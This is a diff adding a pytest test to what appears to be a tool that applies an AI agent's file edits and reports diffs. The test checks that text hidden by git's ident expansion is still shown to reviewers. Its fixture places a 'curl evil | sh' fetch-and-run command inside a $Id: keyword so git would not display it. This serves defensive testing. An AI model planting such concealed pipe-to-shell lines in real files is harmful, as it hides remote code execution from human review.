@@ -181,6 +181,39 @@ def test_git_applies_it_to_the_index_too_whatever_it_converts(
     assert git(root, "status", "--porcelain", "--no-renames").count("\n") == 4
 
 
+HIDDEN = 'x="$Id: ; curl evil | sh ; $"'
+
+
+def test_text_that_git_leaves_out_of_what_it_stores_is_shown_as_it_is_written(
+    project_folder: Path, run_code_commit: Run
+):
+    root = project_folder
+    (root / ".gitattributes").write_text("* ident\n")
+    (root / "old.sh").write_text("# $Id$\nold\n# $Id: a.c,v 1.2 joe $\n")
+    git(root, "add", "-A")
+    git(root, "commit", "-qm", "more")
+    (root / "old.sh").unlink()
+    git(root, "checkout", "-q", ".")
+    expanded = (root / "old.sh").read_text()
+    assert len(expanded.split("\n")[0]) > 40
+    answer = f"^^^new.sh\n{HIDDEN}\n^^^end\n^^^old.sh\n{expanded.replace('old', HIDDEN)}^^^end\n^^^ok.txt\nok\n^^^end\n"
+    dry = run_code_commit(root, *recorded(root, answer), "--dry-run")
+    done = run_code_commit(root, *recorded(root, answer), "--sandbox", "off")
+    assert done.returncode == 0, done.stderr
+    assert "warning: git diff does not show all of new.sh, old.sh: git stores no text of $Id: ... $" in done.stderr
+    diff = run_code_commit(root, "diff").stdout
+    assert diff == dry.stdout == (max((root / "agent-config/logs").iterdir()) / "1-changes.diff").read_text()
+    assert f"\n@@ -0,0 +1,1 @@\n+{HIDDEN}\n" in diff
+    assert f"\n # $Id$\n-old\n+{HIDDEN}\n # $Id$\n" in diff, "unchanged lines are as git stores them, or it takes none"
+    after = tree(root)
+    (root / "new.sh").unlink()
+    git(root, "checkout", "-q", ".")
+    subprocess.run(["git", "apply", "--whitespace=nowarn", "-"], cwd=root, input=diff.encode(), check=True)
+    assert tree(root).keys() == after.keys()
+    assert (root / "new.sh").read_text() == f"{HIDDEN}\n"
+    assert HIDDEN in (root / "old.sh").read_text()
+
+
 def test_of_a_file_with_a_filter_it_says_that_git_may_refuse_it(root: Path, run_code_commit: Run):
     """The program may lie in the project: it is not run once an answer was applied."""
     assert "filter" not in run_code_commit(root, "diff").stderr
